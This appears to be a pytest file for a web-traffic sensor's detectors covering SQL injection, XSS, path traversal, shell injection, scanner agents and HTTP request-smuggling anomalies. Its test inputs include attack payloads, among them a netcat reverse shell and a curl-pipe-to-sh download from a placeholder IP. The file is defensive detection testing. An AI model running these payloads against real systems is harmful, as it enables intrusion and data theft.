"""The detectors on our own examples (the corpus test measures them at scale): attacks
found in every place and encoding the application decodes, ordinary text left alone,
protocol anomalies seen through the real HTTP/1 parser."""

from __future__ import annotations

import pytest

from sensor.l7.base import NEED_DATA, Direction
from sensor.l7.http1 import Http1Parser
from sensor.rules import decode, engine, managed, shell, sqli, web
from sensor.rules.request import Request
from tests.rules.helpers import event, request, rules


@pytest.mark.parametrize("value", [
    "7 UNION ALL SELECT name, pass FROM accounts", "x' OR 'a'='a", "5 AND 3=3",
    "10; DROP TABLE invoices--", "abc\" or sleep(3)#", "1) or (2=2", "' AND extractvalue(1,concat(0x7e,version()))",
    "-3 union select 1,@@version", "admin'--", "1 waitfor delay '0:0:5'", "x' || pg_sleep(5)--",
    "; select pass from users", "uid having (1=1)", "case when 1=1 then 1 else 0 end",
    "2 - (select 1)/*",
])
def test_sqli_positive(value):
    assert sqli.detect(value), value


@pytest.mark.parametrize("value", [
    "O'Reilly", "select your size", "rock 'n' roll", "Tom & Jerry", "union station",
    "1-800-555-0100", "2 or 3 days", "She said \"hello\" and left", "drop-down menu",
    "table for two", "it's 10 or less", "Where's the order?", "-- just a dash --",
    "order by date", "Execute the plan today", "customer id having trouble", "just in case",
    "5 * 3 = 15",
])
def test_sqli_negative(value):
    assert not sqli.detect(value), value


def test_nosql_operator_names():
    assert sqli.nosql_name("password[$ne]")
    assert sqli.nosql_name("$where")
    assert not sqli.nosql_name("price$")


@pytest.mark.parametrize("value", [
    "<script>x</script>", "<img src=x onerror=go()>", "\" onfocus=\"steal()", "javascript:go()",
    "<svg/onload=go()>", "java\tscript:go()", "<iframe src=//a.test>", "document.cookie",
])
def test_xss(value):
    assert web.xss(value), value


@pytest.mark.parametrize("value", [
    "a < b and c > d", "Fish &amp; chips", "<b>bold</b>", "one: two", "onion rings",
    "https://example.test/page?x=1",
])
def test_xss_negative(value):
    assert not web.xss(value), value


@pytest.mark.parametrize("value,expected", [
    ("../../../../etc/shadow", True), ("..\\..\\boot.ini", True), ("php://filter/resource=x", True),
    ("/var/www/../../proc/self/environ", True), ("report.final.pdf", False), ("../", True),
    ("v1.2..3", False),
])
def test_traversal(value, expected):
    assert bool(web.traversal(value)) == expected


@pytest.mark.parametrize("path,expected", [
    ("/.git/config", True), ("/.env", True), ("/backup/site.sql.gz", True),
    ("/.well-known/security.txt", False), ("/static/app.min.js", False), ("/img/logo.png", False),
])
def test_restricted_paths(path, expected):
    assert bool(web.restricted_path(path)) == expected


@pytest.mark.parametrize("value", [
    "; cat /etc/hosts", "| nc -e /bin/sh 198.18.0.9 4444", "`id`", "$(whoami)",
    "x && curl http://198.18.0.9/a | sh", "c''url -s x", "/???/b??/w?oami", "127.0.0.1;ls -la",
    "cmd /c dir", "FOR %i IN (*.*) DO type %i", ";uname", "/usr/local/bin/node -e x",
    "ansible-playbook --check site.yml", "cd ..; ls", "vim -c ':!sh'",
])
def test_shell(value):
    assert shell.detect(value), value


@pytest.mark.parametrize("value", [
    "cat videos", "time for lunch", "Fish & chips; more please", "python tutorial",
    "Ping me when you're free", "find a store near me", "I'd like the id card",
    ";ON", "SET 8 -MINI AS", "Use --force with care", "see /docs/install.html",
])
def test_shell_negative(value):
    assert not shell.detect(value), value


def test_decoding_the_way_the_application_will():
    forms = decode.variants("%253Cscript%253E")
    assert "<script>" in forms                    # double URL encoding
    assert "&lt;svg onload=go()&gt;" != decode.entities("&lt;svg onload=go()&gt;")
    assert "<x>" in decode.variants("\\u003cx\\u003e")   # JSON escapes
    assert "javascript:" in decode.variants("java&Tab;script&colon;")[-1].replace("\t", "")
    assert len(decode.variants("%41" * 10000)[0]) == decode.MAX_VALUE   # bounded
    assert len(decode.variants("%2541&amp;\\u0041\\x41")) <= decode.MAX_VARIANTS


def _finding(group: str, raw) -> managed.Finding | None:
    return managed.GROUPS[group].scan(Request(*raw))


def test_every_input_is_inspected():
    enc = "1%20union%20select%20secret%20from%20vault"
    cases = {
        "arg:id": request("GET", f"/x?id={enc}"),
        "cookie:pref": request("GET", "/", {"Cookie": f"pref={enc}"}),
        "body:id": request("POST", "/x", {"Content-Type": "application/x-www-form-urlencoded"},
                           f"id={enc}".encode()),
        "body:q.id": request("POST", "/x", {"Content-Type": "application/json"},
                             b'{"q": {"id": "1 union select secret from vault"}}'),
        "body:xml": request("POST", "/x", {"Content-Type": "application/xml"},
                       b'<a v="1 union select secret from vault"/>'),
        "body:comment": request("POST", "/x", {"Content-Type": "multipart/form-data; boundary=B"},
                           b'--B\r\nContent-Disposition: form-data; name="comment"\r\n\r\n'
                           b'1 union select secret from vault\r\n--B--\r\n'),
        "header:x-forwarded-for": request("GET", "/", {"X-Forwarded-For": "1' or '1'='1"}),
    }
    for where, raw in cases.items():
        f = _finding("sqli", raw)
        assert f is not None and f.field == where, (where, f)


def test_scanner_agents_and_probe_paths():
    assert _finding("scanner", request("GET", "/", {"User-Agent": "sqlmap/1.7#stable"})).field \
        == "header:user-agent"
    assert _finding("scanner", request("GET", "/", {"User-Agent": "Mozilla/5.0 (X11)"})) is None


def _parse(raw: bytes):
    p = Http1Parser(inspect=lambda m, t, c: 1024)
    p.receive_data(Direction.TO_SERVER, raw, 1)
    p.receive_data(Direction.TO_CLIENT, b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n", 2)
    p.receive_eof(Direction.TO_SERVER, 3)
    p.receive_eof(Direction.TO_CLIENT, 3)
    out = []
    while (t := p.next_event()) is not NEED_DATA:
        out.append(t)
    return out


@pytest.mark.parametrize("raw,why", [
    (b"GET / HTTP/1.1\r\nUser-Agent: x\r\n\r\n", "missing Host"),
    (b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 3\r\nContent-Length: 3\r\n\r\nabc",
     "duplicate Content-Length"),
    (b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 3\r\nContent-Length: 30\r\n\r\nabc",
     "duplicate Content-Length"),
    (b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
     b"0\r\n\r\n", "Content-Length with Transfer-Encoding"),
    (b"GET / HTTP/1.1\r\nHost: h\r\nX-Pad: " + b"a" * 9000 + b"\r\n\r\n", "overlong header"),
])
def test_protocol_anomalies_through_the_parser(tmp_path, raw, why):
    e = engine.Engine(rules(tmp_path, '[[group]]\nname = "protocol"\nmode = "alert"\n'))
    [t] = _parse(raw)                # even the conflicting lengths (a parser ERROR) give one
    _, alerts = e.evaluate(event(1), t.request)
    assert len(alerts) == 1 and why in alerts[0].reason, alerts
    clean = _parse(b"GET / HTTP/1.1\r\nHost: h\r\n\r\n")[0]
    assert e.evaluate(event(2), clean.request)[1] == []
